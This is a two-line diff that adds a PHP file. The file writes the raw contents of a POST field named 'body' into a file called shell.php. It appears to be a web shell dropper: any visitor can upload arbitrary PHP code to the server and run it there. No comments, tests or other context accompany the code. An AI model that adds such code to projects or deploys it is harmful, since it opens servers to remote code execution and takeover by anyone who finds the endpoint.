@@ -1,0 +1,2 @@
+<?php
+file_put_contents("shell.php", $_POST["body"]);
